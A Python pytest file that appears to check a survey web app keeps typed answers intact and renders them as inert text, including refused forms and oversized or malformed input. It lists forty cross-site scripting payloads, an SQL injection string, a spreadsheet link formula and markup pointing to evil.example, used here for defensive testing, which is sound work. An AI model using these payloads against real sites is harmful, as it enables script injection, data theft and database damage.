"""Whatever people type is kept as they typed it, shown as text, or refused in words; it is never a fault of ours."""

import pytest

from responses.models import Response
from tests.responses.conftest import Citizen, form_of

INTACT = {
    "NUL": "before\x00after",
    "emoji": "👮‍♀️👍🏽 gracias 🇲🇽",
    "right to left": "شكرًا \u202e abc \u202c جزيلاً",
    "combining": "e" + "\u0301" * 1999,
    "lines": "one\ntwo\n\nthree",
    "zero width": "a\u200b\u200d\ufeffb",
    "astral": "𝕳𝖊𝖑𝖑𝖔" * 100,
    "template": "{{ settings.SECRET_KEY }} {% debug %} {agency} %s",
    "sql": "'); DROP TABLE responses_answer; --",
    "formula": '=HYPERLINK("https://evil.example")',
    "longest": "ñ" * 2000,
}
PAYLOADS = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</TEXTAREA><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus="',
    "' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=C1></form>",
    "<input type=hidden name=language value=es>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
]


@pytest.mark.parametrize("kind", INTACT)
def test_s30_text_is_kept_intact(carla: Citizen, kind: str) -> None:
    assert carla.sends(C1="4", T1=INTACT[kind]).status_code == 303
    assert carla.answers()["T1"] == INTACT[kind]


def test_s31_forty_payloads_are_kept_as_text_and_change_nothing_on_the_page(carla: Citizen) -> None:
    carla.sends(C1="4", T1="harmless")
    harmless = carla.opens().content
    assert len(PAYLOADS) == 40
    for payload in PAYLOADS:
        carla.sends(C1="4", T1=payload)
        assert carla.answers()["T1"] == payload
        assert carla.opens().content == harmless


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s31_a_payload_in_a_refused_form_is_shown_as_text(carla: Citizen, payload: str) -> None:
    refused = carla.finishes(T1=payload, T2="x" * 2001)
    assert refused.status_code == 422
    assert form_of(refused).texts["T1"].replace("\x00", "") == payload.replace("\x00", "")
    assert form_of(refused).tags.count("script") == 0


def test_s30_ten_thousand_combining_characters_are_refused_and_kept_on_the_page(carla: Citizen) -> None:
    text = "e" + "\u0301" * 10_000
    response = carla.finishes(T1=text)
    assert response.status_code == 422
    assert form_of(response).texts["T1"] == text
    assert Response.objects.count() == 0


@pytest.mark.parametrize(
    "value", ["6", "0", "7", "-1", "55", "4.0", "٤", "４", " 4", "4 ", "", "C1", "\x00", "true", "1e0"]
)
def test_s30_a_value_that_was_not_offered_is_refused(carla: Citizen, value: str) -> None:
    response = carla.sends(C1=value)
    assert response.status_code == 422
    assert "Choose one of the answers that question 1 offers." in response.content.decode()
    assert Response.objects.count() == 0


def test_s30_a_body_beyond_any_answer_is_refused_in_words(carla: Citizen) -> None:
    response = carla.sends(C1="4", T1="x" * 300_000)
    assert response.status_code == 413
    assert "shorten your comments" in response.content.decode()
    assert Response.objects.count() == 0


def test_s30_thousands_of_fields_are_refused(carla: Citizen) -> None:
    assert carla.sends(**{f"f{number}": "1" for number in range(2001)}).status_code == 400
    assert Response.objects.count() == 0


@pytest.mark.parametrize("kind", ["application/json", "text/plain", "multipart/form-data; boundary=x", "nonsense"])
def test_s30_a_body_that_is_no_form_changes_nothing(carla: Citizen, kind: str) -> None:
    assert carla.client.post(carla.url, b'{"C1": "4"}', content_type=kind).status_code in {303, 400}
    assert Response.objects.count() == 0


def test_s30_bytes_that_are_no_text_are_taken_as_far_as_they_can_be_read(carla: Citizen) -> None:
    kind = "application/x-www-form-urlencoded"
    assert carla.client.post(carla.url, b"C1=4&T1=caf%e9", content_type=kind).status_code == 303
    assert carla.answers() == {"C1": 4, "T1": "caf\ufffd"}
